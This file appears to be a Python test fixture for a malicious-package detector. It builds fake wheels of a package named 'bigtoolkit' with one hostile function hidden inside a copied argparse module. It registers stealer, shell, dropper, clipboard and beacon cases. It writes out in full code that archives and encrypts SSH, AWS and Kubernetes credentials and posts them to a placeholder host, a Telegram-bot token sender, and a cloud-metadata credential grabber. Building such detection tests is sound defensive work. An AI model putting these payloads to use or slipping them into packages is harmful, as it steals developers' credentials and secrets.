"""Campaigns inside a package of some size and good repute: the payload stands in one function among many."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

from tests.campaigns.disguises import DISGUISES
from tests.campaigns.forge import Built, Shapes, ordinary, wheel
from tests.campaigns.payloads import (
    BEACON,
    CLIPBOARD,
    FETCHERS,
    SENDERS,
    SHELL,
    STEALER,
    dropper,
    fetch_and_run,
    secrets,
)

__all__ = ["TAKEOVERS"]

TAKEOVERS = Shapes()
PACKAGE = ("configparser", "csv", "shlex", "textwrap", "argparse", "calendar", "difflib", "fractions", "gettext",
           "heapq", "ipaddress", "json.decoder", "json.encoder", "logging", "mailbox", "optparse", "pprint", "statistics")  # fmt: skip
HOST = "argparse.py"


def takeover(payload: str, *, called: bool = True, entry: str = "_warm") -> Built:
    """The payload as a function in the midst of an ordinary module, called at the module's end or by nobody."""
    modules = ordinary(*PACKAGE)
    body = f"\n\ndef {entry}():\n" + "".join(f"    {line}\n" if line else "\n" for line in payload.splitlines())
    lines = modules[HOST].splitlines(keepends=True)
    cut = next(i for i, line in enumerate(lines) if line.startswith("class HelpFormatter"))
    modules[HOST] = "".join([*lines[:cut], body, "\n\n", *lines[cut:]]) + (f"\n{entry}()\n" if called else "")
    files = {f"bigtoolkit/{name}": text for name, text in modules.items()}
    files["bigtoolkit/__init__.py"] = "from bigtoolkit import argparse\n"
    return wheel("bigtoolkit", files, version="8.3.41")


for library in SENDERS:
    TAKEOVERS.add(
        f"takeover-secrets-{library}",
        f"One function of a large package reads secrets and sends them by {library}",
        lambda library=library: takeover(secrets(library)),
    )
for library in FETCHERS:
    TAKEOVERS.add(
        f"takeover-fetches-{library}",
        f"One function of a large package runs the text that it fetches by {library}",
        lambda library=library: takeover(fetch_and_run(library)),
    )
    TAKEOVERS.add(
        f"takeover-drops-{library}",
        f"One function of a large package fetches a program by {library} and starts it",
        lambda library=library: takeover(dropper(library, windows=library in ("urllib", "urllib3")), called=False),
    )
for disguise in DISGUISES:
    if disguise not in ("off-screen", "decorator-sink"):
        TAKEOVERS.add(
            f"takeover-hides-{disguise}",
            f"One function of a large package hides the theft of secrets by {disguise}",
            lambda disguise=disguise: takeover(DISGUISES[disguise](secrets("http-client"))),
        )
for title, what, text in (
    ("stealer", "robs browsers", STEALER + SENDERS["httpx"]),
    ("shell", "opens a shell to a bare address", SHELL),
    ("clipboard", "replaces copied wallet addresses", CLIPBOARD),
    ("beacon", "reports host and user", BEACON + SENDERS["requests"]),
):
    TAKEOVERS.add(f"takeover-{title}", f"One function of a large package {what}", lambda text=text: takeover(text))


@TAKEOVERS
def takeover_encrypts_and_posts() -> Built:
    """One function collects secrets, encrypts them under a public key of its own, and posts the archive"""
    return takeover(
        """\
import base64, glob, io, os, tarfile, urllib.request
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
PUB = '''-----BEGIN PUBLIC KEY-----
inertinertinertinertinertinertinertinertinertinertinertinert
-----END PUBLIC KEY-----'''
out = io.BytesIO()
with tarfile.open(fileobj=out, mode='w:gz') as t:
    for p in ('~/.ssh', '~/.aws', '~/.kube', '~/.config/gcloud', '~/.docker/config.json', '~/.env', '~/.gitconfig'):
        t.add(os.path.expanduser(p))
key, iv = os.urandom(32), os.urandom(16)
enc = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
sealed = serialization.load_pem_public_key(PUB.encode()).encrypt(key, padding.OAEP(padding.MGF1(hashes.SHA256()), hashes.SHA256(), None))
urllib.request.urlopen(urllib.request.Request('https://models.lmrouter.example.invalid/', data=sealed + enc.update(out.getvalue()), headers={'X-Filename': 'tpcp.tar.gz'}))
"""
    )


@TAKEOVERS
def takeover_constructor_sends_token() -> Built:
    """A client's constructor sends the user's token to a bot, behind many layers"""
    inner = """\
import requests
requests.post('https://api.telegram.org/bot123456789:AAaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/sendMessage', data={'chat_id': 1, 'text': token})
"""
    return takeover(DISGUISES["many-layers"](inner), entry="_check")


@TAKEOVERS
def takeover_cloud_credentials() -> Built:
    """One function asks the cloud's metadata service for credentials and posts them with the service account's token"""
    return takeover(
        """\
import json, os, urllib.request
role = urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/', timeout=1).read().decode()
got = urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role).read()
sa = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()
urllib.request.urlopen('https://metrics-edge.example.invalid/v1', data=got + sa.encode() + json.dumps(dict(os.environ)).encode())
"""
    )
